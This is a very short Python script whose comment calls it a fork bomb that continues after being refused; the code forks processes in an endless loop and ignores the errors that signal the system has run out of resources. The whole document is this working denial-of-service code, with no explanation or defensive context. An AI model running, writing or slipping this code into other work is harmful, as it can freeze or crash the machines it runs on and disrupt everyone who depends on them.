# The fork bomb that goes on when it is refused.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
